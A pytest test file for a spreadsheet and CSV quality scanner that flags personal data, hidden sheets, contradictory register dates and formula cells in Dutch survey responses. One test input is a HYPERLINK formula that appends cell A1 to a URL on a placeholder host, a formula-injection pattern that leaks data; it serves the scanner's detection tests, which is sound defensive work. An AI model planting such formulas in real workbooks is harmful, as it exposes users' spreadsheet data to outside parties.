"""What stands in cells that no reader takes: each finding in a list that has it, and none in one that has not."""

from datetime import date

import pytest
from openpyxl import Workbook
from openpyxl.comments import Comment

from dagster_project.intake import scan
from dagster_project.quality import raw_findings
from dagster_project.workspace import Workspace

HEADINGS = ("Nummer", "Naam", "Deelnemers", "Toelichting")
VERSIONS = "roo_id,naam,inwerkingtreding,uitwerkingtreding,n_deelnemers,next_roo"
MEMBERS = "gr_roo_id,deelnemer_naam,deelnemer_tooi,toetredings_datum,uittredings_datum"


@pytest.fixture
def where(tmp_path) -> Workspace:
    return Workspace.at(tmp_path / "w").create("example")


def _response(where, remarks=(), filled_in_by="controller", change=lambda book: None):
    book = Workbook()
    book.properties.creator = "openpyxl"
    rows = [("Uitvraag",), ("Ingevuld door", filled_in_by), HEADINGS]
    rows += [
        (n, f"Regio {n}", "gemeente Groningen", remark) for n, remark in enumerate(remarks or ("akkoord",), start=1)
    ]
    for row in rows:
        book.active.append(row)
    change(book)
    path = where.raw / "surveys" / "2024" / "gm0014_enquete.xlsx"
    path.parent.mkdir(parents=True)
    book.save(path)
    return _found(where)


def _edition(where, *rows: str):
    folder = where.raw / "editions"
    folder.mkdir()
    (folder / "deliveries.csv").write_text(
        "file,source,snapshots,received_on\neditie.csv,edition,2020,2020-09-30\n", encoding="utf-8"
    )
    (folder / "editie.csv").write_text("\n".join(("Nummer;Naam;Deelnemers;Gemeentecodes", *rows, "")), encoding="utf-8")
    return _found(where)


def _register(where, versions=(), members=()):
    folder = where.raw / "registers"
    folder.mkdir()
    listed = "".join(f"{name}.csv,register,2025-01-15\n" for name in ("versies", "deelnemers"))
    (folder / "deliveries.csv").write_text(f"file,source,received_on\n{listed}", encoding="utf-8")
    (folder / "versies.csv").write_text("\n".join((VERSIONS, *versions, "")), encoding="utf-8")
    (folder / "deelnemers.csv").write_text("\n".join((MEMBERS, *members, "")), encoding="utf-8")
    return _found(where)


def _found(where):
    scan(where, today=date(2025, 2, 1))
    rows = list(raw_findings(Workspace.at(where.root)))
    assert {r["finding"] for r in rows} >= {"looked_at"}
    return {(r["locator"].rpartition(";")[2], r["finding"], r["detail"]) for r in rows if r["finding"] != "looked_at"}


def test_a_response_as_it_should_be_has_no_finding(where):
    assert _response(where) == set()


@pytest.mark.parametrize(
    ("remark", "finding"),
    [
        ("Zaak van 999990019", "bsn"),
        ("mail aan j.verzonnen@voorbeeld.nl", "email"),
        ("bel 050-3181234", "telephone"),
        ("Nagevraagd bij Sjoukelien Voorbeeldsma, zij weet ervan.", "person"),
        ("Bijdrage op NL91 ABNA 0417 1643 00", "bank_account"),
        ("geboren op 4 maart 1971", "day_of_birth"),
        ('=HYPERLINK("http://voorbeeld.invalid";"klik")', "formula"),
    ],
)
def test_what_is_personal_or_runs_in_a_remark_is_found_and_not_repeated(where, remark, finding):
    if finding == "formula":  # as text, as a form in a browser hands it over
        remark = f" {remark}"
    assert ("cell=D4", finding, "") in _response(where, (remark,))


def test_who_signs_with_a_name_is_found(where):
    assert _response(where, filled_in_by="Sjoukelien Voorbeeldsma") == {("cell=B2", "signed", "")}


def test_what_stands_beside_cells_is_found(where):
    def change(book):
        book.properties.creator = "Sjoukelien Voorbeeldsma"
        book.active["B5"].comment = Comment("Gebeld met Sjoukelien Voorbeeldsma", "x")

    found = _response(where, change=change)
    assert {("property=creator", "signed", ""), ("comment", "signed", "")} <= found


def test_persons_on_a_sheet_that_is_hidden_are_found(where):
    def change(book):
        sheet = book.create_sheet("Contact")
        sheet.append(("bel 050-3181234",))
        sheet.sheet_state = "hidden"

    assert ("cell=A1", "telephone", "") in _response(where, change=change)


def test_codes_are_held_against_names_lives_and_those_that_were_given_out(where):
    found = _edition(
        where,
        "1;Regio Noord;Groningen;0014",
        "2;Regio Zuid;Stadskanaal;0014",
        "3;Regio West;Groningen;0001",
        "4;Regio Oost;Bedum;0005",
    )
    assert found == {
        ("line=3", "code_not_named", "gm0014"),
        ("line=4", "code_unknown", "gm0001"),
        ("line=5", "code_not_alive", "gm0005"),
    }


def test_a_list_from_which_a_row_on_all_stands_a_column_off_is_found(where):
    above = [f"{n};Regio {n};Groningen;0014" for n in range(1, 5)]
    below = [f"{n};;Regio {n};Groningen" for n in range(5, 9)]
    shifted = {detail for _, finding, detail in _edition(where, *above, *below) if finding == "column_shifted"}
    assert "gemeentecodes" in shifted


def test_a_register_that_agrees_with_itself_has_no_finding(where):
    member = "1,Gemeente Groningen,https://voorbeeld.invalid/gm0014,2013-01-01,"
    assert _register(where, ["1,Regio,2013-01-01,,1,"], [member]) == set()


@pytest.mark.parametrize(
    ("version", "finding"),
    [
        ("1,Regio,2013-01-01,2012-01-01,1,", "date_impossible"),
        ("1,Regio,2094-01-01,,1,", "date_impossible"),
        ("1,Regio,2013-02-31,,1,", "date_impossible"),
        ("1,Regio,1899-12-30,,1,", "date_impossible"),
        ("1,Regio,2013-01-01,,5,", "count_differs"),
        ("1,Regio,2013-01-01,,1,1", "own_successor"),
        ("1,Regio,2013-01-01,2013-01-01,1,", "membership_date"),
    ],
)
def test_what_the_register_contradicts_of_itself_is_found(where, version, finding):
    member = "1,Gemeente Groningen,https://voorbeeld.invalid/gm0014,2013-01-01,"
    assert ("line=2", finding, "1") in _register(where, [version], [member])


def test_a_number_of_the_register_beside_another_name_is_found(where):
    found = _register(where, ["1,Regio,2013-01-01,,,", "1,Kring,2013-01-01,,,", "1,Regio,2013-01-01,,,"])
    assert found == {("line=3", "number_twice", "1")}


def test_answers_that_contradict_the_day_beside_them_are_found(where):
    def change(book):
        for column, text in ((5, "Antwoord"), (6, "Opgeheven op")):
            book.active.cell(3, column, text)
        for row, cells in (
            (4, ("klopt", "2023-01-01")),
            (5, ("opgeheven", "1985-01-01")),
            (6, ("opgeheven", "2023-01-01")),
        ):
            for column, text in zip((5, 6), cells, strict=True):
                book.active.cell(row, column, text)

    found = _response(where, ("akkoord",) * 3, change=change)
    assert found == {("cell=F4", "ended_and_going_on", ""), ("cell=F5", "ended_before_all", "")}


def test_a_response_that_names_another_body_at_its_top_is_found(where):
    def change(book):
        book.active["A1"], book.active["B1"] = "Organisatie", "gemeente Stadskanaal"

    assert _response(where, change=change) == {("cell=B1", "of_another_body", "")}


def test_a_response_that_names_its_own_body_is_let_be(where):
    def change(book):
        book.active["A1"], book.active["B1"] = "Organisatie", "gemeente Groningen"

    assert _response(where, change=change) == set()


def test_what_a_file_holds_is_kept_and_told_the_same_again(where):
    first = _response(where, ("bel 050-3181234",))
    assert _found(where) == first != set()


def test_a_formula_without_a_stored_value_is_a_finding_too(where):
    """openpyxl stores none, nor does who writes a workbook with a script."""
    found = _response(where, remarks=['=HYPERLINK("http://voorbeeld.invalid/?"&A1,"klik")'])
    assert ("cell=D4", "formula", "") in found


@pytest.mark.parametrize(("encoding", "told"), [("utf-8", False), ("utf-16", True), ("cp1252", True)])
def test_a_list_in_another_encoding_is_a_finding(where, encoding, told):
    folder = where.raw / "editions"
    folder.mkdir()
    (folder / "deliveries.csv").write_text(
        "file,source,snapshots,received_on\ne.csv,edition,2020,2020-09-30\n", encoding="utf-8"
    )
    text = "\n".join(("Nummer;Naam;Deelnemers", *(f"{n};Regio Súdwest {n};Groningen" for n in range(5)), ""))
    (folder / "e.csv").write_bytes(text.encode(encoding))
    assert any(f[1] == "other_encoding" for f in _found(where)) is told
